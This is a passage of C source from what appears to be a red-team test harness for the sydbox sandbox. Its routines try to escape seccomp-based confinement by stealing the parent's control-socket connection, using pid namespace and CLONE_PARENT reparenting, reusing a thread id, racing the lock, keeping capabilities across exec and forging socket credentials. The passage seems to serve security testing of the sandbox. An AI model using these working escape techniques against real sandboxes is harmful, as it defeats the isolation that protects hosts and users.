    if (pfd < 0) _exit(blocked("pidfd_open(parent)", errno));
    int s = (int)syscall(__NR_pidfd_getfd, pfd, s0, 0);
    if (s < 0) _exit(blocked("pidfd_getfd", errno));
    if (write(s, line, strlen(line)) != (ssize_t)strlen(line)) _exit(blocked("write", errno));
    n = read(s, b2, sizeof b2 - 1);
    b2[n > 0 ? n : 0] = 0;
    printf("# L through the eldest's connection: %s", b2);
    int e = try_create(target);
    if (e == 0)
      _exit(escaped("ipc-stolen-conn: a locked process (pid %d) applied '%.*s' through its unlocked parent's "
                    "control-socket connection (pidfd_getfd) and made %s",
                    (int)getpid(), (int)strlen(line) - 1, line, target));
    _exit(blocked("create", e));
  }
  int st;
  while (waitpid(l, &st, 0) < 0 && errno == EINTR) {
  }
  return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
}

/* pidns-orphan: (core/restrict/namespaces:false) orphans of a pid
 * namespace the sandbox made go to its init, not to sydbox. We (unlocked)
 * make B, init of a new pid namespace; B forks M; M locks itself, forks C
 * (quiet) and exits; C, reparented to B, makes its first notification:
 * its entry copies B's (unlocked) state; C applies
 * the allowlist command for DIR/denied and creates DIR/denied/pwned. */
static const char* pn_dir;
static char pn_stack[65536];
static int pn_exec;
static int pn_init(void* arg) {
  char target[PATH_MAX], cmd[PATH_MAX + 64];
  snprintf(target, sizeof target, "%s/denied/pwned", pn_dir);
  snprintf(cmd, sizeof cmd, "allowlist/write+%s/denied/***", pn_dir);
  if (arg) goto maker; /* M after its exec: locked by magic_lock:exec */
  pid_t m = fork();
  if (m < 0) return blocked("fork M", errno);
  if (m == 0 && pn_exec) {
    execl("/proc/self/exe", "syd-attack", "pidns-orphan", pn_dir, "exec-child", (char*)NULL);
    _exit(blocked("exec M", errno));
  }
  if (m == 0) {
  maker:
    if (!pn_exec && magic("core/trace/magic_lock:on") != 0) _exit(blocked("lock M", EINVAL));
    if (magic("core/sandbox/write?") != ENOENT) _exit(blocked("M is not locked", EINVAL));
    printf("# M (pid %d in the namespace) is locked\n", (int)getpid());
    fflush(stdout);
    pid_t c = fork();
    if (c == 0) {
      sleep_ms(300); /* M is gone: our parent is the namespace's init */
      int me = magic(cmd);
      int e = try_create(target);
      if (e == 0) {
        escaped("pidns-orphan: C (parent now %d), forked by a locked process, %s and created %s", (int)getppid(),
                me == 0 ? "applied a magic command" : "was not locked", target);
        _exit(0);
      }
      blocked("create (C)", e);
      _exit(1);
    }
    _exit(0);
  }
  int st, rc = 1;
  pid_t w;
  while ((w = wait(&st)) > 0 || errno == EINTR)
    if (w > 0 && w != m && WIFEXITED(st) && WEXITSTATUS(st) == 0) rc = 0;
  return rc;
}
static int pidns_orphan(const char* dir, const char* how) {
  pn_dir = dir;
  setvbuf(stdout, NULL, _IOLBF, 0);
  pn_exec = strcmp(how, "exec") == 0 || strcmp(how, "exec-child") == 0;
  if (strcmp(how, "exec-child") == 0) return pn_init((void*)1);
  pid_t b = clone(pn_init, pn_stack + sizeof pn_stack, CLONE_NEWPID | SIGCHLD, NULL);
  if (b < 0) return blocked("clone(CLONE_NEWPID)", errno);
  int st;
  while (waitpid(b, &st, 0) < 0 && errno == EINTR) {
  }
  return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
}

/* eldest-exec-lock: the eldest's first exec (of COMMAND) does not count
 * for magic_lock:exec, but it is only noted while some process has an exec
 * lock pending (ProcessTable::OnExec returns before it otherwise). With
 * magic_lock off at the start, we (the eldest) ask for magic_lock:exec at
 * run time and exec PROG (ourselves): that exec is taken for the first,
 * and the new program runs unlocked: it applies the allowlist command for
 * DIR/denied and creates DIR/denied/pwned. */
static int eldest_exec_lock(const char* dir, const char* how) {
  char target[PATH_MAX], cmd[PATH_MAX + 64];
  snprintf(target, sizeof target, "%s/denied/pwned", dir);
  snprintf(cmd, sizeof cmd, "allowlist/write+%s/denied/***", dir);
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (strcmp(how, "after") != 0) {
    if (magic("core/trace/magic_lock:exec") != 0) return blocked("magic_lock:exec", EINVAL);
    printf("# the eldest (pid %d) locks itself at its next exec\n", (int)getpid());
    execl("/proc/self/exe", "syd-attack", "eldest-exec-lock", dir, "after", (char*)NULL);
    return blocked("exec", errno);
  }
  int m = magic(cmd);
  int e = try_create(target);
  if (e == 0)
    return escaped("exec-lock: the program exec'd (pid %d) after magic_lock:exec %s and created %s", (int)getpid(),
                   m == 0 ? "applied a magic command" : "was not locked", target);
  printf("# after the exec: magic %s\n", m == 0 ? "applied" : en(m));
  return blocked("create", e);
}

/* orphan-exec-lock: an orphan's entry gets the strictest state seen, but
 * only a lock counts there, not a pending exec lock. M (our child) asks
 * for magic_lock:exec, forks C (quiet) and exits; C, an orphan at its
 * first notification, execs PROG (ourselves, "eldest-exec-lock DIR
 * after"): the new program is unlocked, applies the allowlist command for
 * DIR/denied and creates DIR/denied/pwned. */
static int orphan_exec_lock(const char* dir) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  pid_t m = fork();
  if (m < 0) return blocked("fork", errno);
  if (m == 0) {
    if (magic("core/trace/magic_lock:exec") != 0) _exit(blocked("magic_lock:exec", EINVAL));
    pid_t c = fork();
    if (c == 0) {
      sleep_ms(300); /* M is gone: we are sydbox's */
      execl("/proc/self/exe", "syd-attack", "eldest-exec-lock", dir, "after", (char*)NULL);
      _exit(blocked("exec C", errno));
    }
    _exit(0);
  }
  int st;
  waitpid(m, &st, 0);
  sleep_ms(1200); /* C's program reports */
  return 1;
}

/* early-child: a process table entry is made at a process's first
 * notification and copies its parent's state as it is then, not as it
 * was at the fork. C is forked and sleeps (no notified call); then we get
 * released (HOW: "getppid" under sys/trace+getppid:detach_process=0, or
 * "exec" of PROG under exec/resume_if_match) and stay alive; C wakes and
 * creates DIR/denied/pwned: released too, though it neither made the call
 * nor executed the program. */
static int early_child(const char* dir, const char* how, const char* prog) {
  char target[PATH_MAX];
  snprintf(target, sizeof target, "%s/denied/pwned", dir);
  pid_t c = fork();
  if (c < 0) return blocked("fork", errno);
  if (c == 0) {
    struct timespec ts = {0, 300 * 1000 * 1000};
    nanosleep(&ts, NULL);
    int e = try_create(target);
    if (e == 0) {
      escaped("early-child: a child forked before its parent was released (%s) created %s", how, target);
      _exit(0);
    }
    blocked("create", e);
    _exit(1);
  }
  if (strcmp(how, "exec") == 0) {
    execl(prog, prog, "1", (char*)NULL);
    return blocked("exec", errno);
  }
  (void)syscall(SYS_getppid);
  int st;
  waitpid(c, &st, 0);
  return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
}

/* clone-parent: an entry is made at a process's first notification and
 * copies the state of its parent as /proc names it then. With
 * clone(CLONE_PARENT) that parent is not the maker but the maker's
 * parent. HOW:
 *   lock     we fork M; M locks itself (magic_lock:on), then makes C with
 *            CLONE_PARENT: C's parent is us (unlocked), so C is unlocked
 *            and applies allowlist/write+DIR/denied/... by magic stat;
 *   exec     under core/trace/magic_lock:exec, we (the eldest: our first
 *            exec does not count) fork M, which execs PROG clone-parent
 *            DIR exec-child: locked at that exec; M makes C as above;
 *   getppid  (sys/trace+getppid:detach_process=0) we fork M, then get
 *            released; M (pinned unreleased) makes C with CLONE_PARENT:
 *            C's parent is us, released, so C is released;
 *   resume   as getppid, but we are released by exec'ing PROG (a program
 *            exec/resume_if_match names; argument "1").
 * C creating DIR/denied/pwned means escaped. */
static char cp_stack[65536];
static const char* cp_dir;
static int cp_sibling(void* arg) {
  const char* how = arg;
  char target[PATH_MAX], cmd[PATH_MAX + 64];
  snprintf(target, sizeof target, "%s/denied/pwned", cp_dir);
  snprintf(cmd, sizeof cmd, "allowlist/write+%s/denied/***", cp_dir);
  int m = -1;
  if (strcmp(how, "lock") == 0 || strcmp(how, "exec") == 0) m = magic(cmd);
  int e = try_create(target);
  if (e == 0) {
    escaped("clone-parent (%s): a sibling made with CLONE_PARENT by a %s process (pid %d, parent %d) %s and created %s",
            how, (m == -1) ? "unreleased" : "locked", (int)getpid(), (int)getppid(),
            m == 0 ? "applied a magic command" : "was released", target);
    _exit(0);
  }
  blocked("create (sibling)", e);
  _exit(1);
}
static int cp_maker(const char* how) {
  char target[PATH_MAX];
  snprintf(target, sizeof target, "%s/denied/pwned", cp_dir);
  if (strcmp(how, "lock") == 0 && magic("core/trace/magic_lock:on") != 0) return blocked("lock M", EINVAL);
  if (strcmp(how, "lock") == 0 || strcmp(how, "exec") == 0) {
    if (magic("core/sandbox/write?") != ENOENT) return blocked("M is not locked", EINVAL);
    info("M (pid %d) is locked", (int)getpid());
  } else {
    int e = try_create(target); /* control: M itself is not released */
    if (e == 0) return escaped("clone-parent: M itself was released");
    info("M (pid %d) is not released: %s", (int)getpid(), en(e));
  }
  pid_t c = clone(cp_sibling, cp_stack + sizeof cp_stack, CLONE_PARENT | SIGCHLD, (void*)how);
  if (c < 0) return blocked("clone(CLONE_PARENT)", errno);
  return 0;
}
static int clone_parent(const char* dir, const char* how, const char* prog) {
  cp_dir = dir;
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (strcmp(how, "exec-child") == 0) return cp_maker("exec");
  int go[2];
  if (pipe(go) != 0) return blocked("pipe", errno);
  pid_t m = fork();
  if (m < 0) return blocked("fork", errno);
  if (m == 0) {
    close(go[1]);
    char b;
    (void)!read(go[0], &b, 1); /* until we are locked/released */
    sleep_ms(100);
    if (strcmp(how, "exec") == 0) {
      execl(prog, prog, "clone-parent", dir, "exec-child", (char*)NULL);
      _exit(blocked("exec M", errno));
    }
    _exit(cp_maker(how));
  }
  close(go[0]);
  if (strcmp(how, "getppid") == 0) (void)syscall(SYS_getppid);
  if (strcmp(how, "resume") == 0) {
    /* the pipe's write end is inherited by PROG and closed at our exit:
     * write first, M sleeps 100 ms before it acts */
    (void)!write(go[1], "g", 1);
    execl(prog, prog, "1", (char*)NULL);
    return blocked("exec", errno);
  }
  (void)!write(go[1], "g", 1);
  close(go[1]);
  int st, rc = 1;
  pid_t w;
  while ((w = wait(&st)) > 0 || errno == EINTR)
    if (w > 0 && w != m && WIFEXITED(st) && WEXITSTATUS(st) == 0) rc = 0;
  return rc;
}

/* reaped-grandchild: a release pins the released process's children, not
 * its grandchildren, which inherit through their parent's entry. When
 * that parent exits, the grandchild is reparented to the nearest child
 * subreaper, which we make ourselves before the release (the attribute
 * survives exec): its entry then copies ours, released. We set
 * PR_SET_CHILD_SUBREAPER, fork M, M forks C (quiet) and tells us; we get
 * released (HOW: getppid or exec of PROG, as in clone-parent); M exits;
 * C wakes and creates DIR/denied/pwned. */
static int reaped_grandchild(const char* dir, const char* how, const char* prog) {
  char target[PATH_MAX];
  snprintf(target, sizeof target, "%s/denied/pwned", dir);
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (prctl(PR_SET_CHILD_SUBREAPER, 1) != 0) return blocked("subreaper", errno);
  int ready[2];
  if (pipe(ready) != 0) return blocked("pipe", errno);
  pid_t m = fork();
  if (m < 0) return blocked("fork", errno);
  if (m == 0) {
    close(ready[0]);
    pid_t c = fork();
    if (c == 0) {
      close(ready[1]);
      sleep_ms(400);
      int e = try_create(target);
      if (e == 0) {
        escaped("reaped-grandchild (%s): C (pid %d, parent now %d), forked before the release, was released", how,
                (int)getpid(), (int)getppid());
        _exit(0);
      }
      blocked("create (C)", e);
      _exit(1);
    }
    (void)!write(ready[1], "r", 1);
    close(ready[1]);
    sleep_ms(150); /* the release pins us, not C */
    _exit(0);
  }
  close(ready[1]);
  char b;
  if (read(ready[0], &b, 1) != 1) return blocked("M", EINVAL);
  if (strcmp(how, "exec") == 0) {
    execl(prog, prog, "1", (char*)NULL);
    return blocked("exec", errno);
  }
  (void)syscall(SYS_getppid);
  int st, rc = 1;
  pid_t w;
  while ((w = wait(&st)) > 0 || errno == EINTR)
    if (w > 0 && w != m && WIFEXITED(st) && WEXITSTATUS(st) == 0) rc = 0;
  return rc;
}

/* detached-tid: detach_thread of a thread that is not its process's leader is
 * kept forever (pidfd_open of its tid fails, so the entry never expires);
 * Q, a later process given that tid, is released from user-space checks
 * without having made the call the rule names. Run with
 * sys/trace+getppid:detach_thread=0 and write sandboxing. */
static void* detached_getppid_thread(void* arg) {
  *(pid_t*)arg = (pid_t)syscall(SYS_gettid);
  (void)syscall(SYS_getppid); /* detached */
  return NULL;
}
static int detached_tid(const char* dir) {
  char target[PATH_MAX];
  snprintf(target, sizeof target, "%s/denied/pwned", dir);
  int lp = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
  if (lp < 0) return blocked("open ns_last_pid", errno);
  if (try_create(target) != EPERM) return blocked("control: the target is not denied", EINVAL);
  pid_t tid = 0;
  pthread_t th;
  if (pthread_create(&th, NULL, detached_getppid_thread, &tid) != 0) return 100;
  pthread_join(th, NULL);
  usleep(100000);
  char num[32];
  snprintf(num, sizeof num, "%d", tid - 1);
  if (pwrite(lp, num, strlen(num), 0) < 0) return blocked("write ns_last_pid", errno);
  pid_t q = fork();
  if (q == 0) {
    if (getpid() != tid) _exit(2);
    _exit(try_create(target) == 0 ? 0 : 1); /* Q never called getppid */
  }
  int st;
  waitpid(q, &st, 0);
  if (WIFEXITED(st) && WEXITSTATUS(st) == 2) return blocked("pid reuse", EAGAIN);
  printf("# detached thread %d exited; Q took its tid\n", tid);
  if (WIFEXITED(st) && WEXITSTATUS(st) == 0) return escaped("detached-tid: Q (tid %d of an exited detached thread) made %s", tid, target);
  printf("BLOCKED detached-tid: %s refused\n", target);
  return 1;
}

/* ---- 9f. capabilities across an exec --------------------------------------------
 * P keeps its capabilities across setresuid(65534) (PR_SET_KEEPCAPS) and
 * raises CAP_DAC_OVERRIDE again; its child C makes a checked call in the
 * root-only DIR/ro (allowed natively, by the capability: the supervisor
 * learns C's ids), then execs itself as "caps-after-exec". The kernel
 * drops a non-root process's capabilities at exec, so the new image's
 * creation of DIR/ro/pwned is EACCES natively, and must be under sydbox
 * too. Root only. */
static int caps_set_dac_override(void) {
  struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct d[2];
  if (syscall(SYS_capget, &h, d) != 0) return errno;
  d[0].effective |= 1u << CAP_DAC_OVERRIDE;
  return syscall(SYS_capset, &h, d) == 0 ? 0 : errno;
}

static int caps_after_exec(const char* dir) {
  char target[PATH_MAX];
  snprintf(target, sizeof target, "%s/ro/pwned", dir);
  int fd = open(target, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd >= 0) {
    close(fd);
    printf("ESCAPED caps-across-exec: %s made after the exec that dropped the capability\n", target);
    return 0;
  }
  printf("BLOCKED caps-across-exec: %s: %s after the exec\n", target, en(errno));
  return errno == EACCES ? 1 : 2;
}

static int caps_across_exec(const char* dir) {
  if (prctl(PR_SET_KEEPCAPS, 1) != 0) return blocked("PR_SET_KEEPCAPS", errno);
  if (setgroups(0, NULL) != 0 || setresgid(65534, 65534, 65534) != 0 || setresuid(65534, 65534, 65534) != 0)
    return blocked("setresuid", errno);
  int e = caps_set_dac_override();
  if (e) return blocked("capset", e);
  pid_t c = fork();
  if (c == 0) {
    char first[PATH_MAX];
    snprintf(first, sizeof first, "%s/ro/first", dir);
    int fd = open(first, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd < 0) {
      printf("C: %s: %s (with CAP_DAC_OVERRIDE)\n", first, en(errno));
      fflush(stdout);
      _exit(3);
    }
    close(fd);
    printf("# C made %s with CAP_DAC_OVERRIDE\n", first);
    fflush(stdout);
    char self[PATH_MAX];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n < 0) _exit(4);
    self[n] = 0;
    char* av[] = {self, "caps-after-exec", (char*)dir, NULL};
    execv(self, av);
    _exit(5);
  }
  int st;
  waitpid(c, &st, 0);
  fflush(stdout);
  if (!WIFEXITED(st)) return blocked("C", EINTR);
  if (WEXITSTATUS(st) == 0) return 0; /* ESCAPED, said by C */
  if (WEXITSTATUS(st) == 1) return 1;
  return blocked("C", WEXITSTATUS(st));
}

/* ---- 11. magic lock race ------------------------------------------------------- */
static atomic_int race_go;

static atomic_int race_stop;
static void* race_thread(void* arg) {
  const char* path = arg;
  while (!atomic_load(&race_go)) {
  }
  struct stat st;
  syscall(__NR_stat, path, &st);
  return NULL;
}

/* Keeps changing another part of the per-process state until told to stop. */
static void* race_hammer(void* arg) {
  const char* path = arg;
  while (!atomic_load(&race_go)) {
  }
  struct stat st;
  while (!atomic_load(&race_stop)) syscall(__NR_stat, path, &st);
  return NULL;
}

/* Denied creations keep the supervisor's workers handing the receiving
 * role over (each report may block), so that two of them answer at once. */
static atomic_int noise_stop;
static void* noise_thread(void* arg) {
  while (!atomic_load(&noise_stop)) {
    long fd = syscall(__NR_creat, (const char*)arg, 0644);
    if (fd >= 0) close((int)fd);
  }
  return NULL;
}

static int env_int(const char* name, int def, int max) {
  const char* v = getenv(name);
  int x = v ? atoi(v) : def;
  return x < 0 ? 0 : x > max ? max : x;
}

static int magic_race(int n, const char* noise) {
  int lost = 0, other = 0;
  const int nnoise = env_int("SYD_RACE_NOISE", 1, 8), nhammer = env_int("SYD_RACE_HAMMERS", 2, 8);
  for (int i = 0; i < n; ++i) {
    pid_t c = fork();
    if (c == 0) {
      atomic_store(&race_go, 0);
      pthread_t a, b[8], z[8];
      for (int k = 0; noise && k < nnoise; ++k) pthread_create(&z[k], NULL, noise_thread, (void*)noise);
      for (int k = 0; k < nhammer; ++k) pthread_create(&b[k], NULL, race_hammer, "/dev/sydbox/core/trace/magic_lock:exec");
      pthread_create(&a, NULL, race_thread, "/dev/sydbox/core/trace/magic_lock:on");
      sleep_ms(1);
      atomic_store(&race_go, 1);
      pthread_join(a, NULL);
      sleep_ms(1);
      atomic_store(&race_stop, 1);
      for (int k = 0; k < nhammer; ++k) pthread_join(b[k], NULL);
      atomic_store(&noise_stop, 1);
      for (int k = 0; noise && k < nnoise; ++k) pthread_join(z[k], NULL);
      struct stat st;
      long r = syscall(__NR_stat, "/dev/sydbox/core/sandbox/write?", &st);
      _exit(r == 0 ? 1 : errno == ENOENT ? 0 : 2);
    }
    int st;
    waitpid(c, &st, 0);
    int r = WIFEXITED(st) ? WEXITSTATUS(st) : 3;
    if (r == 1) ++lost;
    else if (r != 0) ++other;
  }
  printf("# magic-race: lock lost in %d of %d processes (%d odd)\n", lost, n, other);
  if (lost) return escaped("magic-race: the lock was lost in %d of %d processes", lost, n);
  return blocked("magic-race (every process locked)", ENOENT);
}

/* ---- 12. the red-team's findings (A, B, D, F-M) ------------------------------ */

/* Reads up to one line of stdin (without the newline); "" at EOF. */
static void read_line(char* buf, size_t len) {
  size_t n = 0;
  char c;
  while (n + 1 < len && read(0, &c, 1) == 1 && c != '\n') buf[n++] = c;
  buf[n] = 0;
}

/* Waits (at most 10 s) for EOF on stdin: the test has looked. */
static void wait_stdin_eof(void) {
  char c;
  long end = now_ms() + 10000;
  while (now_ms() < end) {
    struct pollfd pf = {0, POLLIN, 0};
    if (poll(&pf, 1, 100) > 0 && read(0, &c, 1) <= 0) break;
  }
}

/* Becomes `uid` (and its gid, no supplementary groups) for good. 0 or errno. */
static int drop_to(uid_t uid) {
  if (setgroups(0, NULL) != 0 || setresgid(uid, uid, uid) != 0 || setresuid(uid, uid, uid) != 0) return errno;
  return 0;
}

/* A filter sending creat(2) to a listener of the caller's own: its fd, or
 * -1 with errno. (creat only: the dynamic loader's opens stay untouched.) */
static int creat_listener(void) {
  struct sock_filter f[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 1, 0),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_creat, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog prog = {sizeof f / sizeof f[0], f};
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0) return -1;
  return (int)syscall(__NR_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
}

/* Answers every notification on `listener` with CONTINUE (or `error`) until
 * `child` exits; its exit status. */
static int answer_until_exit(int listener, pid_t child, int error) {
  int st = 0;
  for (;;) {
    if (waitpid(child, &st, WNOHANG) == child) break;
    struct pollfd p = {listener, POLLIN, 0};
    if (poll(&p, 1, 50) <= 0 || !(p.revents & POLLIN)) continue;
    struct seccomp_notif req;
    memset(&req, 0, sizeof req);
    if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) continue;
    struct seccomp_notif_resp resp;
    memset(&resp, 0, sizeof resp);
    resp.id = req.id;
    if (error) resp.error = -error;
    else resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
    (void)ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
  }
  return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

/* A: a stand-in supervisor: a child sends creat(2) to a listener that this
 * process holds alone and answers EPERM to everything; the child runs CMD. */
static int listener_parent(char** cmd) {
  int pp[2], go[2];
  if (pipe(pp) != 0 || pipe(go) != 0) return 100;
  pid_t child = fork();
  if (child == 0) {
    int l = creat_listener();
    if (l < 0) _exit(101);
    if (write(pp[1], &l, sizeof l) != sizeof l) _exit(102);
    char c;
    if (read(go[0], &c, 1) != 1) _exit(103);
    close(l);
    close(pp[0]);
    close(pp[1]);
    close(go[0]);
    close(go[1]);
    execvp(cmd[0], cmd);
    _exit(127);
  }
  int remote;
  if (read(pp[0], &remote, sizeof remote) != sizeof remote) return 104;
  int pidfd = (int)pidfd_open_(child);
  int listener = pidfd >= 0 ? (int)pidfd_getfd_(pidfd, remote) : -1;
  if (listener < 0) {
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return 105;
  }
  if (write(go[1], "g", 1) != 1) return 106;
  return answer_until_exit(listener, child, EPERM);
}

/* A: after the supervisor is gone. A child (the eldest dies with the
 * supervisor) waits for a line on stdin, sent once the test has killed the
 * parent; then its creat(TARGET) must fail (ENOSYS: nobody answers) and it
 * must not get a listener of its own, which would answer its children's
 * calls with CONTINUE. */
static int own_listener(const char* target) {
  pid_t s = fork();
  if (s == 0) {
    int l = creat_listener();
    if (l >= 0) {
      printf("SETUP a listener of our own while the parent lives\n");
      _exit(2);
    }
    printf("while the parent lives: seccomp(NEW_LISTENER): %s\n", en(errno));
    printf("READY\n");
    fflush(stdout);
    char line[16];
    read_line(line, sizeof line);
    long fd = syscall(__NR_creat, target, 0644);
    printf("after the parent: creat: %s\n", fd >= 0 ? "OK" : en(errno));
    if (fd >= 0) _exit(escaped("own-listener: creat(%s) with the parent gone", target));
    l = creat_listener();
    if (l < 0) {
      int e = errno;
      fd = syscall(__NR_creat, target, 0644);
      printf("after the refusal: creat: %s\n", fd >= 0 ? "OK" : en(errno));
      if (fd >= 0) _exit(escaped("own-listener: creat(%s) with the parent gone", target));
      _exit(blocked("seccomp(NEW_LISTENER)", e));
    }
    info("a listener of our own at fd %d", l);
    fflush(stdout);
    pid_t d = fork();
    if (d == 0) {
      long f = syscall(__NR_creat, target, 0644);
      _exit(f >= 0 ? 0 : errno);
    }
    int r = answer_until_exit(l, d, 0);
    if (r == 0) _exit(escaped("own-listener: creat(%s) answered CONTINUE by our own listener", target));
    _exit(blocked("creat under our own listener", r));
  }
  int st;
  while (waitpid(s, &st, 0) < 0 && errno == EINTR) {
  }
  return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

/* B: prlimit64 on a thread of the parent (TID read from stdin) with the new
 * limit at 0x100000000, whose low 32 bits are those of NULL ("only reads"):
 * RLIMIT_MSGQUEUE 4096 (harmless, and visible in /proc/PID/limits). Then the
 * same with an ordinary pointer. Waits for EOF on stdin before exiting. */
static int prlimit_wide(void) {
  printf("ppid=%d\nWAITING\n", getppid());
  fflush(stdout);
  char line[32];
  read_line(line, sizeof line);
  pid_t tid = atoi(line);
  if (tid <= 0) return blocked("no thread id on stdin", EINVAL);
  struct rlimit* lim = mmap((void*)0x100000000ul, 4096, PROT_READ | PROT_WRITE,
                            MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
  if (lim != (void*)0x100000000ul) return blocked("mmap(0x100000000)", errno);
  lim->rlim_cur = lim->rlim_max = 4096;
  long wide = syscall(__NR_prlimit64, tid, RLIMIT_MSGQUEUE, lim, NULL);
  int wide_err = errno;
  printf("prlimit64(%d, new at 0x100000000): %s\n", tid, wide == 0 ? "OK" : en(wide_err));
  struct rlimit plain = {4096, 4096};
  long ord = syscall(__NR_prlimit64, tid, RLIMIT_MSGQUEUE, &plain, NULL);
  int ord_err = errno;
  printf("prlimit64(%d, ordinary pointer): %s\n", tid, ord == 0 ? "OK" : en(ord_err));
  printf("DONE\n");
  fflush(stdout);
  wait_stdin_eof();
  if (wide == 0) return escaped("prlimit-wide: RLIMIT_MSGQUEUE of thread %d set through 0x100000000", tid);
  if (ord == 0) return escaped("prlimit-wide: RLIMIT_MSGQUEUE of thread %d set", tid);
  return blocked("prlimit64(new at 0x100000000)", wide_err);
}

/* D: connects to SOCKET (dropping to uid 65534 first when root) and asks
 * the server (the test) what it saw: SO_PEERCRED of the connection, the
 * SCM_CREDENTIALS of a plain sendmsg, then of a sendmsg claiming pid 1,
 * uid 0, gid 0. Each reply is one line "peer PID UID GID creds PID UID GID"
 * ("creds none" without any). */
static int peer_exchange(const char* path, const struct ucred* claim, char* reply, size_t len, int* send_err) {
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_un un;
  memset(&un, 0, sizeof un);
  un.sun_family = AF_UNIX;
  snprintf(un.sun_path, sizeof un.sun_path, "%s", path);
  if (s < 0 || connect(s, (struct sockaddr*)&un, sizeof un) != 0) return errno;
  char cbuf[CMSG_SPACE(sizeof(struct ucred))];
  memset(cbuf, 0, sizeof cbuf);
  struct iovec v = {(void*)"hello", 5};
  struct msghdr mh;
  memset(&mh, 0, sizeof mh);
  mh.msg_iov = &v;
  mh.msg_iovlen = 1;
  if (claim) {
    mh.msg_control = cbuf;
    mh.msg_controllen = sizeof cbuf;
    struct cmsghdr* cm = CMSG_FIRSTHDR(&mh);
    cm->cmsg_level = SOL_SOCKET;
    cm->cmsg_type = SCM_CREDENTIALS;
    cm->cmsg_len = CMSG_LEN(sizeof *claim);
    memcpy(CMSG_DATA(cm), claim, sizeof *claim);
  }
  *send_err = sendmsg(s, &mh, MSG_NOSIGNAL) < 0 ? errno : 0;
  shutdown(s, SHUT_WR);
  ssize_t n = 0, got;
  while (n + 1 < (ssize_t)len && (got = read(s, reply + n, len - 1 - (size_t)n)) > 0) n += got;
  reply[n > 0 ? n : 0] = 0;
  char* nl = strchr(reply, '\n');
  if (nl) *nl = 0;
  close(s);
  return 0;
}

static int peer_cred(const char* path) {
  if (privileged()) {
    int e = drop_to(65534);
    if (e) return blocked("drop to uid 65534", e);
  }
  const uid_t me = getuid();
  const gid_t my_gid = getgid();
  info("uid %u gid %u pid %d", me, my_gid, getpid());
  char reply[256];
  int send_err = 0;
  int e = peer_exchange(path, NULL, reply, sizeof reply, &send_err);
  if (e) return blocked("connect", e);
  printf("plain: sendmsg: %s; server: %s\n", send_err ? en(send_err) : "OK", reply);
  int ppid = 0, cpid = 0;
  unsigned puid = 0, pgid = 0, cuid = 0, cgid = 0;
  int have_peer = sscanf(reply, "peer %d %u %u", &ppid, &puid, &pgid) == 3;
  const char* c = strstr(reply, "creds ");
  int have_creds = c && sscanf(c, "creds %d %u %u", &cpid, &cuid, &cgid) == 3;
  char bad[256] = "";
  if (have_peer && (puid != me || pgid != my_gid))
    snprintf(bad + strlen(bad), sizeof bad - strlen(bad), " SO_PEERCRED uid %u gid %u;", puid, pgid);
  if (have_creds && (cuid != me || cgid != my_gid))
    snprintf(bad + strlen(bad), sizeof bad - strlen(bad), " a plain message's credentials uid %u gid %u;", cuid, cgid);
  struct ucred forged = {1, 0, 0};
  e = peer_exchange(path, &forged, reply, sizeof reply, &send_err);
  if (e) return blocked("connect (second)", e);
  printf("forged: sendmsg: %s; server: %s\n", send_err ? en(send_err) : "OK", reply);
  c = strstr(reply, "creds ");
  if (!send_err && c && sscanf(c, "creds %d %u %u", &cpid, &cuid, &cgid) == 3 && (cpid == 1 || cuid == 0 || cgid == 0))
    snprintf(bad + strlen(bad), sizeof bad - strlen(bad), " forged credentials pid %d uid %u gid %u accepted;", cpid,
             cuid, cgid);
  const int forged_err = send_err;
  /* The parent's pid (sydbox's, under sydbox) with root's ids: what a
   * sender with sydbox's identity could claim. */
  struct ucred parent = {getppid(), 0, 0};
  e = peer_exchange(path, &parent, reply, sizeof reply, &send_err);
  if (e) return blocked("connect (third)", e);
  printf("parent: sendmsg: %s; server: %s\n", send_err ? en(send_err) : "OK", reply);
  c = strstr(reply, "creds ");
  if (!send_err && c && sscanf(c, "creds %d %u %u", &cpid, &cuid, &cgid) == 3 && (cuid == 0 || cgid == 0))
    snprintf(bad + strlen(bad), sizeof bad - strlen(bad), " credentials pid %d uid %u gid %u accepted;", cpid,
             cuid, cgid);
  /* Our own: natively accepted, the server sees them as they are. */
  struct ucred own = {getpid(), me, my_gid};
  e = peer_exchange(path, &own, reply, sizeof reply, &send_err);
  if (e) return blocked("connect (fourth)", e);
  printf("own: sendmsg: %s; server: %s\n", send_err ? en(send_err) : "OK", reply);
